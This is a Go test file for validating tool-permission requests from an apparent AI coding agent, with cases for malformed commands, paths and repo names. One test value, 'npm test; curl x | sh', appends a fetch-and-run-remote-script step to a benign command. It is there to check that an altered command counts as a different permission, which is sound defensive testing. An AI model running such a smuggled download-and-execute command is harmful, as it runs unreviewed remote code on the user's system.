package waterfall

import (
	"encoding/json"
	"strings"
	"testing"
)

func permissionRequest() *Request {
	return &Request{CallID: "call-1", Agent: Agent{ID: "a1"}, Questions: []Question{{
		ID: PermissionQuestionID, Question: "Allow Bash?",
		Options: []Option{{Label: PermissionAllow}, {Label: PermissionDeny}},
	}}, Permission: &Permission{Tool: "Bash", Command: "npm test", Repo: "web"}}
}

func TestValidatePermission(t *testing.T) {
	for _, c := range []struct {
		name, want string // want: "" valid, else a fragment of the BAD_REQUEST message
		mod        func(r *Request)
	}{
		{"valid command", "", func(r *Request) {}},
		{"valid path", "", func(r *Request) { r.Permission = &Permission{Tool: "Edit", Path: "src/a.go", Repo: "web"} }},
		{"tool only (mcp)", "", func(r *Request) { r.Permission = &Permission{Tool: "mcp__github__create_issue"} }},
		{"absent is fine", "", func(r *Request) { r.Permission = nil }},
		{"no tool", "permission.tool is required", func(r *Request) { r.Permission.Tool = "" }},
		{"tool with space", "permission.tool is required", func(r *Request) { r.Permission.Tool = "Bash x" }},
		{"command and path", "not both", func(r *Request) { r.Permission.Path = "a" }},
		{"command with NUL", "permission.command", func(r *Request) { r.Permission.Command = "a\x00b" }},
		{"command invalid utf8", "permission.command", func(r *Request) { r.Permission.Command = "a\xffb" }},
		{"command too long", "permission.command", func(r *Request) { r.Permission.Command = strings.Repeat("x", MaxCommandLen+1) }},
		{"path with newline", "permission.path", func(r *Request) { r.Permission = &Permission{Tool: "Edit", Path: "a\nb"} }},
		{"repo with slash", "permission.repo", func(r *Request) { r.Permission.Repo = "a/b" }},
		{"repo dot-dot", "permission.repo", func(r *Request) { r.Permission.Repo = ".." }},
		{"on a question", "only a tool-permission ask", func(r *Request) { r.Questions[0].ID = "q1" }},
		{"two questions", "only a tool-permission ask", func(r *Request) {
			r.Questions = append(r.Questions, Question{ID: "q2", Question: "more?"})
		}},
		{"on a plan", "plans are never answered by a rule", func(r *Request) {
			r.Questions[0].Detail = "plan"
			r.Questions[0].Intent = &Intent{Kind: IntentPlanReview, Approve: PermissionAllow}
		}},
		{"multi-select", "single-select", func(r *Request) { r.Questions[0].MultiSelect = true }},
		{"no Deny option", `"Deny"`, func(r *Request) { r.Questions[0].Options = r.Questions[0].Options[:1] }},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := permissionRequest()
			c.mod(r)
			err := Validate(r)
			switch {
			case c.want == "" && err != nil:
				t.Fatalf("Validate = %v, want ok", err)
			case c.want != "" && (CodeOf(err) != CodeBadRequest || !strings.Contains(err.Error(), c.want)):
				t.Fatalf("Validate = %v, want BAD_REQUEST containing %q", err, c.want)
			}
		})
	}
}

func TestPermissionIsPartOfWhatIsAsked(t *testing.T) {
	a, b := permissionRequest(), permissionRequest()
	b.Permission.Command = "npm test; curl x | sh"
	if SamePermission(a.Permission, b.Permission) || !SamePermission(a.Permission, permissionRequest().Permission) || SamePermission(nil, a.Permission) {
		t.Fatal("SamePermission must compare every field")
	}
	raw, _ := json.Marshal(a)
	var back Request
	if err := json.Unmarshal(raw, &back); err != nil || !SamePermission(back.Permission, a.Permission) {
		t.Fatalf("permission did not round-trip: %s", raw)
	}
}
